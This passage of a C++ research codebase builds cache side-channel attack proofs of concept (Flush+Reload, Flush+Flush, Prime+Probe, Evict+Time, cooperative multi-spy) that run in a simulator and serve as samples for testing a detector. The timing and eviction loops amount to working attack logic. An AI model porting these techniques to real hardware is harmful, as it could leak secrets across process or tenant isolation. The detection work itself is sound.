  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("reload_loop");

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_argmax(b, lay);
  b.hlt();

  // measure: r9 = latency of loading [rsi].
  b.label("measure");
  b.mark_relevant(true);
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mark_relevant(false);
  b.ret();

  emit_victim(b, lay);
  return b.build();
}

}  // namespace scag::attacks
