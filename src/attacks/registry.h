// Registry of all attack PoCs (Table II of the paper).
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "attacks/layout.h"
#include "core/family.h"
#include "isa/program.h"

namespace scag::attacks {

// ---- Flush+Reload family (FR-F) ----------------------------------------
/// Flush+Reload, IAIK-style: loop flush phase, loop reload phase with
/// inline timing and a histogram.
isa::Program fr_iaik(const PocConfig& config = {});
/// Flush+Reload, Mastik-style: fused flush/victim/reload per slot, raw
/// per-slot timings stored then post-processed.
isa::Program fr_mastik(const PocConfig& config = {});
/// Flush+Reload, Nepoche-style: timing via a measurement subroutine.
isa::Program fr_nepoche(const PocConfig& config = {});
/// Flush+Flush: probes with clflush timing instead of reload timing.
isa::Program ff_iaik(const PocConfig& config = {});
/// Evict+Reload: evicts via eviction-set loads instead of clflush.
isa::Program er_iaik(const PocConfig& config = {});

// ---- Prime+Probe family (PP-F) ------------------------------------------
/// Prime+Probe, IAIK-style: nested prime loops, per-set probe timing.
isa::Program pp_iaik(const PocConfig& config = {});
/// Prime+Probe, Jzhang-style: unrolled-way priming and accumulated probe.
isa::Program pp_jzhang(const PocConfig& config = {});

// ---- Spectre-like variants ------------------------------------------------
/// Spectre V1 + Flush+Reload recovery, "ideal" gadget.
isa::Program spectre_fr_ideal(const PocConfig& config = {});
/// Spectre V1 + Flush+Reload recovery, "good" gadget (masked index).
isa::Program spectre_fr_good(const PocConfig& config = {});
/// Spectre V1 + Flush+Reload recovery, interleaved-training variant.
isa::Program spectre_fr_interleaved(const PocConfig& config = {});
/// Spectre V1 + Prime+Probe recovery (Trippel-style).
isa::Program spectre_pp_trippel(const PocConfig& config = {});

// ---- Extensions beyond Table II ---------------------------------------------
/// Evict+Time: times the VICTIM before/after evicting one set. Not part of
/// the paper's dataset; used to test generalization to unseen families
/// (the repository never contains its model).
isa::Program evict_time(const PocConfig& config = {});

// ---- Multi-spy cooperative attacks (beyond Table II) ------------------------
/// Spy `spy_index` of `num_spies` (2..4) cooperating Flush+Reload spies.
/// Each spy flushes/reloads only its contiguous share of the 16 slots and
/// votes into the disjoint slots of the shared histogram; the full attack
/// only exists in the merged trace (trace/merge.h). Throws
/// std::invalid_argument on a bad split.
isa::Program multi_spy_flush_reload(const PocConfig& config, int spy_index,
                                    int num_spies);
/// Spy `spy_index` of `num_spies` (2..4) cooperating Prime+Probe spies;
/// primes/probes only its own slot share's LLC sets.
isa::Program multi_spy_prime_probe(const PocConfig& config, int spy_index,
                                   int num_spies);

/// A cooperative multi-spy attack: one builder per spy, parameterized by
/// (spy_index, num_spies).
struct MultiSpySpec {
  std::string name;
  core::Family family;
  std::function<isa::Program(const PocConfig&, int, int)> build_spy;
};

/// The multi-spy attacks. Kept OUT of all_pocs(): Table II's registry is
/// exactly the paper's 11 PoCs and the repository never enrolls these —
/// they exist to test detection of split attack behavior.
const std::vector<MultiSpySpec>& all_multi_spy_specs();

/// Looks up a multi-spy spec by name; throws std::out_of_range if unknown.
const MultiSpySpec& multi_spy_by_name(const std::string& name);

/// A PoC entry: name, attack family, and builder.
struct PocSpec {
  std::string name;
  core::Family family;
  std::function<isa::Program(const PocConfig&)> build;
};

/// All 11 collected PoCs of Table II.
const std::vector<PocSpec>& all_pocs();

/// The PoCs of one family.
std::vector<PocSpec> pocs_of_family(core::Family family);

/// Looks up a PoC by name; throws std::out_of_range if unknown.
const PocSpec& poc_by_name(const std::string& name);

}  // namespace scag::attacks
