// Cooperative multi-spy Flush+Reload. Each of `num_spies` (2..4) spies
// timeshares the shared array: spy k flushes and reloads only its
// contiguous slot share [k*16/n, (k+1)*16/n), voting into the disjoint
// slots of the common histogram. One spy alone observes (and can recover)
// at most its share of the nibble space — the full attack only exists in
// the merged behavior (trace/merge.h), which is exactly the scenario the
// detector has to survive.
#include "attacks/registry.h"

#include <stdexcept>
#include <string>

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

/// Same victim as the single-spy FR PoCs: every spy's run includes the
/// victim touching the slot its secret selects.
void emit_victim(ProgramBuilder& b, const Layout& lay) {
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.mark_relevant(false);
  b.ret();
}

/// Spy-local argmax over the spy's OWN slot share only: the spy cannot
/// name a slot it never probed. Winner defaults to the first own slot.
void emit_share_argmax(ProgramBuilder& b, const Layout& lay, int lo, int hi) {
  b.mov(reg(Reg::RDI), imm(lo));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(lo));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
}

}  // namespace

void validate_spy_split(int spy_index, int num_spies) {
  if (num_spies < 2 || num_spies > 4)
    throw std::invalid_argument("multi-spy: num_spies must be in [2, 4]");
  if (spy_index < 0 || spy_index >= num_spies)
    throw std::invalid_argument("multi-spy: spy_index out of range");
}

isa::Program multi_spy_flush_reload(const PocConfig& config, int spy_index,
                                    int num_spies) {
  validate_spy_split(spy_index, num_spies);
  const int lo = spy_index * Layout::kNumSlots / num_spies;
  const int hi = (spy_index + 1) * Layout::kNumSlots / num_spies;
  const Layout& lay = config.layout;
  ProgramBuilder b("MultiSpy-FR/spy" + std::to_string(spy_index) + "of" +
                   std::to_string(num_spies));
  b.data_word(lay.secret_addr, config.secret);

  // R15 stays 0; it serves as a zero base register for indexed addressing.
  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Flush phase: clflush only this spy's slot share.
  b.mov(reg(Reg::RDI), imm(lo));
  b.lea(reg(Reg::RSI),
        mem_abs(static_cast<std::int64_t>(lay.shared_array) +
                static_cast<std::int64_t>(lo) * Layout::kSlotStride));
  b.label("flush_loop");
  b.mark_relevant(true);
  b.clflush(mem(Reg::RSI));
  b.add(reg(Reg::RSI), imm(Layout::kSlotStride));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("flush_loop");
  b.mark_relevant(false);
  b.mfence();

  // ---- Victim runs (each spy's timeslice sees one victim activation).
  b.call("victim");

  // ---- Reload phase: time a load of every own slot.
  b.mov(reg(Reg::RDI), imm(lo));
  b.label("reload_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
  b.jge("reload_next");
  // Cache hit: the victim touched this slot -> histogram[slot]++. Shares
  // are disjoint, so cooperative merging is a plain per-slot sum.
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("reload_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(hi));
  b.jl("reload_loop");
  b.mark_relevant(false);

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_share_argmax(b, lay, lo, hi);
  b.hlt();
  emit_victim(b, lay);
  return b.build();
}

}  // namespace scag::attacks
