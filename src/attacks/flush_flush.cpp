// Flush+Flush (Gruss et al., DIMVA'16): instead of timing a reload, time
// the clflush itself — flushing a cached line is measurably slower than
// flushing an absent one, and the probe leaves no cache footprint.
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

isa::Program ff_iaik(const PocConfig& config) {
  const Layout& lay = config.layout;
  ProgramBuilder b("FF-IAIK");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Initial flush: empty all monitored slots.
  b.mov(reg(Reg::RDI), imm(0));
  b.lea(reg(Reg::RSI), mem_abs(static_cast<std::int64_t>(lay.shared_array)));
  b.label("flush_loop");
  b.mark_relevant(true);
  b.clflush(mem(Reg::RSI));
  b.add(reg(Reg::RSI), imm(Layout::kSlotStride));
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("flush_loop");
  b.mark_relevant(false);
  b.mfence();

  b.call("victim");

  // ---- Probe phase: time clflush per slot; slow flush == line present.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("probe_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.rdtscp(Reg::R8);
  b.clflush(mem(Reg::RSI));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), imm(config.flush_threshold));
  b.jle("probe_next");
  // Slow flush: the victim had cached this slot -> histogram[slot]++.
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("probe_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("probe_loop");
  b.mark_relevant(false);

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  // ---- Argmax histogram -> recovered secret.
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
  b.hlt();

  // Victim: touches the slot selected by its secret.
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
  b.mark_relevant(false);
  b.ret();
  return b.build();
}

}  // namespace scag::attacks
