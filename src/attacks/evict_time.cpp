// Evict+Time (Osvik/Shamir/Tromer lineage) — an EXTENSION beyond the
// paper's Table II dataset: instead of probing its own lines, the attacker
// times the *victim's* execution before and after evicting one cache set;
// a slowdown means the victim uses that set.
//
// It exists here to test the paper's generalization claim end to end: a
// detector whose repository holds only the four Table-II families must
// still flag this fifth family (its prepare/measure structure shares cache
// semantics with Prime+Probe), which test_attacks asserts.
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

isa::Program evict_time(const PocConfig& config) {
  const Layout& lay = config.layout;
  constexpr int kWays = 16;
  // A victim call slows by a DRAM-vs-L1 delta (~200 cycles) when its line
  // was evicted; unrelated evictions only add prediction jitter.
  constexpr std::int64_t kDeltaThreshold = 100;

  ProgramBuilder b("Evict+Time");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  b.mov(reg(Reg::RDI), imm(0));  // slot under test
  b.label("slot_loop");
  // Warm the victim so the baseline is an all-hit run.
  b.call("victim");
  // Baseline: time one victim execution.
  b.mark_relevant(true);
  b.rdtscp(Reg::R8);
  b.call("victim");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(reg(Reg::R13), reg(Reg::R9));
  b.mark_relevant(false);

  // Evict the slot's cache set with the attacker's eviction set.
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("evict_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));  // wrong-path-safe cyclic walk
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("evict_way_loop");
  b.mark_relevant(false);
  b.mfence();

  // Measure: time the victim again and compare against the baseline.
  b.mark_relevant(true);
  b.rdtscp(Reg::R8);
  b.call("victim");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.sub(reg(Reg::R9), reg(Reg::R13));  // slowdown vs baseline
  b.cmp(reg(Reg::R9), imm(kDeltaThreshold));
  b.jle("slot_next");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.mark_relevant(false);
  b.label("slot_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("slot_loop");

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  // Argmax histogram -> recovered secret.
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
  b.hlt();

  // Victim: touches its private array at the secret-selected slot.
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.victim_array)));
  b.mark_relevant(false);
  b.ret();
  return b.build();
}

}  // namespace scag::attacks
