// Two Prime+Probe implementations (PP-IAIK, PP-Jzhang). No shared memory:
// the attacker fills ("primes") the LLC sets its victim-observable slots
// map to with its own lines, lets the victim run, then times a walk over
// each set ("probe") — a slow walk means the victim displaced a way there.
#include "attacks/registry.h"

#include "isa/builder.h"

namespace scag::attacks {

using namespace scag::isa;  // NOLINT: builder DSL

namespace {

constexpr int kWays = 16;  // default LLC associativity

/// Cycles above the calibrated all-hit walk that signal a displaced way
/// (one LLC miss replacing a hit adds >= 160 cycles; constant overhead is
/// absorbed by the calibration).
constexpr int kProbeMargin = 100;


/// Victim for the PP family: touches its private array (congruent LLC sets
/// with the attacker's prime region) at the slot its secret selects.
void emit_pp_victim(ProgramBuilder& b, const Layout& lay) {
  b.label("victim");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.mov(reg(Reg::RBX),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.victim_array)));
  b.mark_relevant(false);
  b.ret();
}

void emit_pp_argmax(ProgramBuilder& b, const Layout& lay) {
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("argmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("argmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("argmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("argmax_loop");
  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
        reg(Reg::RDX));
}

}  // namespace

isa::Program pp_iaik(const PocConfig& config) {
  const Layout& lay = config.layout;
  ProgramBuilder b("PP-IAIK");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Prime phase: fill every monitored set with attacker lines.
  b.mov(reg(Reg::RDI), imm(0));  // slot
  b.label("prime_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));  // way
  // The way index is masked so that a wrong-path (transient) extra
  // iteration wraps back onto way 0 instead of loading a 17th same-set
  // line that would evict what we just primed (real PoCs use cyclic
  // access patterns for the same reason).
  b.label("prime_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));  // * kSetAlias
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("prime_way_loop");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("prime_slot_loop");
  b.mfence();

  // ---- Calibrate: time one walk of the freshly primed slot-0 set (all
  // hits). Real PoCs self-calibrate like this; threshold = baseline +
  // margin absorbs constant per-iteration overhead such as inserted junk.
  b.lea(reg(Reg::RSI),
        mem_abs(static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("calib_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("calib_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(reg(Reg::RBP), reg(Reg::R9));
  b.add(reg(Reg::RBP), imm(kProbeMargin));

  b.call("victim");

  // ---- Probe phase: time a full walk of each set.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("probe_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("probe_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("probe_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.cmp(reg(Reg::R9), reg(Reg::RBP));
  b.jle("probe_next");
  // Slow walk: the victim displaced a way -> histogram[slot]++.
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));
  b.label("probe_next");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("probe_slot_loop");

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_pp_argmax(b, lay);
  b.hlt();
  emit_pp_victim(b, lay);
  return b.build();
}

isa::Program pp_jzhang(const PocConfig& config) {
  const Layout& lay = config.layout;
  const std::int64_t times = static_cast<std::int64_t>(lay.histogram) + 0x400;
  ProgramBuilder b("PP-Jzhang");
  b.data_word(lay.secret_addr, config.secret);

  b.label("main");
  b.xor_(reg(Reg::R15), reg(Reg::R15));
  b.mov(reg(Reg::RCX), imm(config.rounds));

  b.label("round_loop");
  // ---- Prime phase, way loop unrolled by four.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("prime_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.shl(reg(Reg::RAX), imm(11));  // * kSlotStride
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("prime_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));  // wrong-path extra group wraps
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1, Layout::kSetAlias));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1, 2 * Layout::kSetAlias));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1, 3 * Layout::kSetAlias));
  b.add(reg(Reg::RDX), imm(4));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("prime_way_loop");
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("prime_slot_loop");
  b.lfence();

  // ---- Baseline pass: time one walk of the freshly primed slot-0 set.
  // Jzhang-style code records the all-hit baseline even though recovery is
  // argmax-based (it is logged alongside the per-slot latencies).
  b.lea(reg(Reg::RSI),
        mem_abs(static_cast<std::int64_t>(lay.attacker_array)));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RDX), imm(0));
  b.label("calib_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("calib_way_loop");
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.mov(mem_abs(times - 8), reg(Reg::R9));  // logged baseline

  b.call("victim");

  // ---- Probe phase: accumulate per-way latencies per slot, no fixed
  // threshold — the slowest slot wins the round.
  b.mov(reg(Reg::RDI), imm(0));
  b.label("probe_slot_loop");
  b.mark_relevant(true);
  b.mov(reg(Reg::RAX), reg(Reg::RDI));
  b.shl(reg(Reg::RAX), imm(11));
  b.lea(reg(Reg::RSI),
        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
  b.mov(reg(Reg::R10), imm(0));  // latency accumulator
  b.mov(reg(Reg::RDX), imm(0));
  b.label("probe_way_loop");
  b.mov(reg(Reg::R11), reg(Reg::RDX));
  b.and_(reg(Reg::R11), imm(kWays - 1));
  b.shl(reg(Reg::R11), imm(16));
  b.rdtscp(Reg::R8);
  b.mov(reg(Reg::RBX), mem_idx(Reg::RSI, Reg::R11, 1));
  b.rdtscp(Reg::R9);
  b.sub(reg(Reg::R9), reg(Reg::R8));
  b.add(reg(Reg::R10), reg(Reg::R9));
  b.inc(reg(Reg::RDX));
  b.cmp(reg(Reg::RDX), imm(kWays));
  b.jl("probe_way_loop");
  b.mov(mem_idx(Reg::R15, Reg::RDI, 8, times), reg(Reg::R10));
  b.mark_relevant(false);
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("probe_slot_loop");

  // Slowest slot of this round gets a histogram vote.
  b.mov(reg(Reg::RDI), imm(0));
  b.mov(reg(Reg::RBX), imm(-1));
  b.mov(reg(Reg::RDX), imm(0));
  b.label("roundmax_loop");
  b.mov(reg(Reg::RAX), mem_idx(Reg::R15, Reg::RDI, 8, times));
  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
  b.jle("roundmax_next");
  b.mov(reg(Reg::RBX), reg(Reg::RAX));
  b.mov(reg(Reg::RDX), reg(Reg::RDI));
  b.label("roundmax_next");
  b.inc(reg(Reg::RDI));
  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
  b.jl("roundmax_loop");
  b.mov(reg(Reg::RAX),
        mem_idx(Reg::R15, Reg::RDX, 8,
                static_cast<std::int64_t>(lay.histogram)));
  b.inc(reg(Reg::RAX));
  b.mov(mem_idx(Reg::R15, Reg::RDX, 8,
                static_cast<std::int64_t>(lay.histogram)),
        reg(Reg::RAX));

  b.dec(reg(Reg::RCX));
  b.jne("round_loop");

  emit_pp_argmax(b, lay);
  b.hlt();
  emit_pp_victim(b, lay);
  return b.build();
}

}  // namespace scag::attacks
