// Memory layout and tuning parameters shared by the attack PoCs.
//
// The PoCs are real attacks inside the simulator: they recover a secret
// nibble (0..15) held in victim memory purely through cache timing. The
// layout constants below place the probe/prime regions in LLC sets that do
// not collide with program code (low sets), the stack (top sets), or the
// result area, so the timing channel is clean.
//
// LLC geometry assumed by the set arithmetic: 1024 sets x 64-byte lines
// (the default HierarchyConfig). Same-set aliases are 65536 bytes apart.
#pragma once

#include <cstdint>

namespace scag::attacks {

struct Layout {
  /// Number of possible secret values; one probe slot per value.
  static constexpr int kNumSlots = 16;
  /// Byte distance between probe slots: 32 LLC sets apart.
  static constexpr std::uint64_t kSlotStride = 2048;
  /// Same-LLC-set stride (num_sets * line_size).
  static constexpr std::uint64_t kSetAlias = 65536;

  /// Shared array (the "shared library" page FR-family attacks flush and
  /// reload; the victim touches the slot selected by its secret).
  std::uint64_t shared_array = 0x1000'2000;
  /// Victim-private array with the same LLC-set mapping as shared_array
  /// (Prime+Probe and Spectre-PP observe it through set contention).
  std::uint64_t victim_array = 0x6000'2000;
  /// Attacker-owned region congruent to shared_array, for eviction sets
  /// and prime sets.
  std::uint64_t attacker_array = 0x4000'2000;
  /// The victim's secret (a value in [0, kNumSlots)).
  std::uint64_t secret_addr = 0x2000'0000;
  /// Attack scratch: histogram of per-slot hits.
  std::uint64_t histogram = 0x3000'0000;
  /// Where the PoC writes the recovered secret (tests assert on this).
  std::uint64_t recovered_addr = 0x3000'0800;
  /// Spectre: bounds-checked array1 and its size variable.
  std::uint64_t array1 = 0x7000'0000;
  std::uint64_t array1_size_addr = 0x7100'0000;

  std::uint64_t slot_addr(std::uint64_t base, int slot) const {
    return base + static_cast<std::uint64_t>(slot) * kSlotStride;
  }
};

struct PocConfig {
  Layout layout{};
